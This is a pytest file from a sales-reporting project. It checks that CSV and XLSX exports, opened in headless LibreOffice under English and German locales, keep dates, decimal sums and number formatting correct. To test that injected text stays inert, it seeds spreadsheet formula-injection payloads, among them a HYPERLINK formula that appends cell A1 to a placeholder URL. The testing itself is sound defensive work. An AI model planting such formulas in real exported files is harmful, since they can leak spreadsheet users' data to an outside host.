"""What a real spreadsheet makes of the downloads: LibreOffice, without a window."""

from __future__ import annotations

import io
import shutil
import subprocess
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from sales_core.reporting.files.forms import ENDINGS, Form, write_table
from sales_core.reporting.files.typed_table import TypedTable
from sales_core.reporting.filters import Filters
from sales_core.reporting.tables import daily_table, lines_table
from sales_core.store.database import Database
from tests.builders import load, mindbody_csv, sale

pytestmark = [
    pytest.mark.slow,
    pytest.mark.parametrize("database", ["sqlite"], indirect=True),
]

PATIENCE = 180  # seconds
LANGUAGES = {"en-US": 1033, "de-DE": 1031}
ATTACK = '=HYPERLINK("http://example.com?"&A1,"Tea")'
SALES = mindbody_csv(
    sale(date="3/1/2025", amount="1055.556", item=ATTACK),
    sale(date="3/2/2025", amount="1234567.8901", item="+1+1", order_id="2"),
    sale(date="3/2/2025", amount="-12.5", quantity="-1", item="@SUM(A1:A9)", order_id="3"),
    sale(date="3/28/2025", amount="1.234", quantity="1.5", item="Tea", order_id="4"),
)
TOTAL = Decimal("1235612.1801")

Cell = str | float | datetime | None


@pytest.fixture(scope="session")
def soffice() -> str:
    found = shutil.which("soffice")
    if not found:
        pytest.skip("NOT OPENED BY A SPREADSHEET: no soffice (apt-get install libreoffice-calc)")
    return found


@pytest.fixture
def tables(database: Database) -> tuple[TypedTable, TypedTable]:
    load(database, SALES)
    return daily_table(database, Filters()), lines_table(database, Filters())


def opened(
    soffice: str, folder: Path, content: bytes, form: Form, language: str
) -> list[list[Cell]]:
    """Let LibreOffice open a file as somebody with that language does, and say what it holds."""
    name = folder / f"taken.{ENDINGS[form]}"
    name.write_bytes(content)
    delimiter = ord(";" if form == "csv-comma" else ",")
    reading = f"--infilter=CSV:{delimiter},34,76,1,,{LANGUAGES[language]},false,true"
    profile = f"-env:UserInstallation=file://{folder / 'profile'}"
    subprocess.run(
        [soffice, "--headless", profile, *([reading] if ENDINGS[form] == "csv" else []),
         "--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", folder / "out", name],
        check=True, capture_output=True, timeout=PATIENCE,
    )  # fmt: skip
    sheet = load_workbook(io.BytesIO((folder / "out" / "taken.xlsx").read_bytes())).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]  # type: ignore[misc]


def set_language(folder: Path, language: str) -> None:
    """Make a profile of LibreOffice in which everything is read and shown in that language."""
    user = folder / "profile" / "user"
    user.mkdir(parents=True)
    user.joinpath("registrymodifications.xcu").write_text(
        '<?xml version="1.0" encoding="UTF-8"?><oor:items xmlns:oor='
        '"http://openoffice.org/2001/registry"><item oor:path="/org.openoffice.Setup/L10N">'
        '<prop oor:name="ooSetupSystemLocale" oor:op="fuse">'
        f"<value>{language}</value></prop></item></oor:items>"
    )


@pytest.mark.parametrize(
    ("form", "language"),
    [("csv", "en-US"), ("csv-comma", "de-DE"), ("xlsx", "en-US"), ("xlsx", "de-DE")],
)
def test_days_are_days_sums_are_equal_and_texts_are_inert(
    tables: tuple[TypedTable, TypedTable], soffice: str, tmp_path: Path, form: Form, language: str
) -> None:
    daily, lines = tables
    set_language(tmp_path, language)
    header, *days = opened(soffice, tmp_path, write_table(daily, form, "EUR"), form, language)
    assert header[:2] == ["date", "revenue"]
    assert [row[0] for row in days[:2]] == [datetime(2025, 3, 1), datetime(2025, 3, 2)]  # noqa: DTZ001
    assert len(days) == 28
    assert summed(days, 1) == TOTAL
    header, *rows = opened(soffice, tmp_path, write_table(lines, form, "EUR"), form, language)
    assert summed(rows, header.index("amount")) == TOTAL
    assert summed(rows, header.index("quantity")) == Decimal("2.5")
    neutral = "" if form == "xlsx" else "'"
    products = {row[header.index("product")] for row in rows}
    assert products == {"Tea", *(neutral + text for text in (ATTACK, "+1+1", "@SUM(A1:A9)"))}


def test_why_there_is_a_form_with_decimal_commas(
    tables: tuple[TypedTable, TypedTable], soffice: str, tmp_path: Path
) -> None:
    set_language(tmp_path, "de-DE")
    content = write_table(tables[0], "csv", "EUR")
    _, first, *_ = opened(soffice, tmp_path, content, "csv", "de-DE")
    assert first[1] == 1055556


def test_a_workbook_shows_days_and_numbers_in_the_language_of_the_reader(
    tables: tuple[TypedTable, TypedTable], soffice: str, tmp_path: Path
) -> None:
    set_language(tmp_path, "de-DE")
    (tmp_path / "taken.xlsx").write_bytes(write_table(tables[0], "xlsx", "EUR"))
    shown = "csv:Text - txt - csv (StarCalc):59,34,76,1,,0,false,true"
    subprocess.run(
        [soffice, "--headless", f"-env:UserInstallation=file://{tmp_path / 'profile'}",
         "--convert-to", shown, "--outdir", tmp_path, tmp_path / "taken.xlsx"],
        check=True, capture_output=True, timeout=PATIENCE,
    )  # fmt: skip
    first = (tmp_path / "taken.csv").read_text("utf-8").splitlines()[1].split(";")
    assert first[:2] == ["01.03.2025", "EUR 1.055,5560"]


def summed(rows: list[list[Cell]], at: int) -> Decimal:
    """Add the numbers of a column up, as a spreadsheet does, and drop what is beyond its digits."""
    numbers = [row[at] for row in rows]
    assert all(isinstance(number, int | float) for number in numbers), numbers
    return Decimal(repr(round(sum(float(str(number)) for number in numbers), 4)))
